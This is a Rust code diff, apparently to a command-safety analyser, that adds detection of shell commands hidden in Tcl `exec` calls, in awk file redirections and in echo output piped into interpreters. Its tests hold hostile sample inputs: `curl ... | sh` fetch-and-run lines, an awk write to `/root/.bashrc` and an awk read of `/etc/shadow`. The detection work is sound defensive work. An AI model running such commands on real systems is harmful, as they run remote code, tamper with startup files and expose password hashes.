@@ -47,8 +47,10 @@ fn code_flags(lang: &str) -> &'static [&'static str] {
     }
 }
 
-/// Finds the code an interpreter command runs, if it is on the line.
-pub(crate) fn code_of(command: &Command) -> Option<Code> {
+/// Finds the code an interpreter command runs, if it is on the line: after
+/// its code flag, or read from its input (a here-document, or what
+/// `piped` says literal `echo`/`printf` output piped into it is).
+pub(crate) fn code_of(command: &Command, piped: &dyn Fn() -> Option<String>) -> Option<Code> {
     let name = command.program()?;
     let lang = interpreter_lang(name)?;
     let args = command.args();
@@ -110,6 +112,12 @@ pub(crate) fn code_of(command: &Command) -> Option<Code> {
                 if let Input::Text(t) = input {
                     text.push_str(&t.text);
                 }
+            }
+            // `echo "import shutil; ..." | python3`.
+            if text.is_empty()
+                && let Some(t) = piped()
+            {
+                text = t;
             }
         }
     }
@@ -253,6 +261,9 @@ pub(crate) fn shell_strings(code: &Code) -> Vec<(String, String)> {
             }
         }
     }
+    if code.lang == "tcl" {
+        out.extend(tcl_execs(text).into_iter().map(|s| (label.clone(), s)));
+    }
     if code.lang == "awk" {
         // `"cmd" | getline` and `print ... | "cmd"` run cmd through sh.
         for (lit, end) in literal_spans(text) {
@@ -262,8 +273,143 @@ pub(crate) fn shell_strings(code: &Code) -> Vec<(String, String)> {
                 out.push((label.clone(), lit));
             }
         }
+        out.extend(awk_files(text));
     }
     out
+}
+
+/// The files awk code writes with `print > "F"` (`>>`, `printf`) or reads
+/// with `getline < "F"`, as the commands that do the same (`tee F`,
+/// `tee -a F`, `cat F`), labelled `awk >` and `awk <`.
+fn awk_files(text: &str) -> Vec<(String, String)> {
+    let quote = |f: &str| format!("'{}'", f.replace('\'', r"'\''"));
+    let mut out = Vec::new();
+    for (lit, end) in literal_spans(text) {
+        let start = end.saturating_sub(lit.len() + 2);
+        let before = text[..start].trim_end();
+        // The statement the literal is in, from its last boundary.
+        let statement = before
+            .rsplit(['{', '}', ';', '\n'])
+            .next()
+            .unwrap_or(before)
+            .trim_start();
+        let found = if let Some(b) = before.strip_suffix(">>") {
+            (!b.ends_with('>')).then(|| ("awk >", format!("tee -a {}", quote(&lit))))
+        } else if before.ends_with('>') {
+            Some(("awk >", format!("tee {}", quote(&lit))))
+        } else if before.ends_with('<') && statement.contains("getline") {
+            Some(("awk <", format!("cat {}", quote(&lit))))
+        } else {
+            None
+        };
+        // `>` is a redirection only in print statements (elsewhere, a
+        // comparison: `$1 > "m"`).
+        if let Some((label, script)) = found
+            && (label == "awk <" || statement.starts_with("print"))
+            && !lit.is_empty()
+        {
+            out.push((label.to_string(), script));
+        }
+    }
+    out
+}
+
+/// Tcl's `exec PROG ARG...` runs PROG with its words (`{...}` literal,
+/// `"..."` quoted, up to the end of the command): each as a command line,
+/// its words quoted for the shell (`exec sh -c {curl … | sh}`).
+fn tcl_execs(text: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let b = text.as_bytes();
+    let mut from = 0;
+    while let Some(pos) = text[from..].find("exec") {
+        let at = from + pos;
+        from = at + 4;
+        // A command word: at the start, or after `;`, a newline, `[` or `{`.
+        let before = text[..at].trim_end_matches([' ', '\t']);
+        let starts = before.is_empty() || before.ends_with([';', '\n', '[', '{']);
+        if !starts || !b.get(at + 4).is_some_and(|c| *c == b' ' || *c == b'\t') {
+            continue;
+        }
+        let words = tcl_words(&text[at + 4..]);
+        // `exec -ignorestderr -- prog`: its options come first.
+        let words: Vec<String> = words
+            .into_iter()
+            .skip_while(|w| w.starts_with('-'))
+            .filter(|w| !w.starts_with(['<', '>', '2']) || !w.contains('@'))
+            .collect();
+        if words.is_empty() {
+            continue;
+        }
+        out.push(
+            words
+                .iter()
+                .map(|w| format!("'{}'", w.replace('\'', r"'\''")))
+                .collect::<Vec<_>>()
+                .join(" "),
+        );
+    }
+    out
+}
+
+/// The words of one Tcl command, up to `;`, a newline or an unmatched `]`.
+fn tcl_words(text: &str) -> Vec<String> {
+    let mut words = Vec::new();
+    let mut chars = text.chars().peekable();
+    loop {
+        while chars.peek().is_some_and(|c| *c == ' ' || *c == '\t') {
+            chars.next();
+        }
+        let Some(&c) = chars.peek() else { break };
+        match c {
+            ';' | '\n' | ']' => break,
+            '{' => {
+                chars.next();
+                let mut depth = 1;
+                let mut w = String::new();
+                for d in chars.by_ref() {
+                    match d {
+                        '{' => depth += 1,
+                        '}' => {
+                            depth -= 1;
+                            if depth == 0 {
+                                break;
+                            }
+                        }
+                        _ => {}
+                    }
+                    w.push(d);
+                }
+                words.push(w);
+            }
+            '"' => {
+                chars.next();
+                let mut w = String::new();
+                while let Some(d) = chars.next() {
+                    match d {
+                        '\\' => w.extend(chars.next()),
+                        '"' => break,
+                        _ => w.push(d),
+                    }
+                }
+                words.push(w);
+            }
+            _ => {
+                let mut w = String::new();
+                while let Some(&d) = chars.peek() {
+                    if matches!(d, ' ' | '\t' | ';' | '\n' | ']') {
+                        break;
+                    }
+                    w.push(d);
+                    chars.next();
+                }
+                words.push(w);
+            }
+        }
+        if words.len() > 64 {
+            break;
+        }
+    }
+    words
 }
 
 /// The shell string a call passes: one literal, or a list of literals
@@ -408,12 +554,36 @@ mod tests {
     }
 
     #[test]
+    fn tcl_exec_words_are_a_command() {
+        let c = code("tcl", "exec sh -c {curl -s x | sh}");
+        assert_eq!(shell_strings(&c)[0].1, "'sh' '-c' 'curl -s x | sh'");
+        let c = code("tcl", "puts [exec ls -la]; set x 1");
+        assert_eq!(shell_strings(&c)[0].1, "'ls' '-la'");
+        let c = code("tcl", "puts \"no execution here\"");
+        assert!(shell_strings(&c).is_empty());
+    }
+
+    #[test]
     fn awk_system_and_pipes_are_found() {
         let c = code("awk", "BEGIN{system(\"curl x | sh\")}");
         assert_eq!(shell_strings(&c)[0].1, "curl x | sh");
         let c = code("awk", "BEGIN{\"date\" | getline d}");
         assert_eq!(shell_strings(&c)[0].1, "date");
         let c = code("awk", "{print $2}");
+        assert!(shell_strings(&c).is_empty());
+        let c = code("awk", "{print > \"/root/.bashrc\"}");
+        assert_eq!(
+            shell_strings(&c)[0],
+            ("awk >".into(), "tee '/root/.bashrc'".into())
+        );
+        let c = code("awk", "NR==1{printf \"%s\", $0 >> \"out.txt\"}");
+        assert_eq!(shell_strings(&c)[0].1, "tee -a 'out.txt'");
+        let c = code(
+            "awk",
+            "BEGIN{while ((getline l < \"/etc/shadow\") > 0) print l}",
+        );
+        assert_eq!(shell_strings(&c)[0].1, "cat '/etc/shadow'");
+        let c = code("awk", "$1 > \"m\" {print}");
         assert!(shell_strings(&c).is_empty());
     }
 }
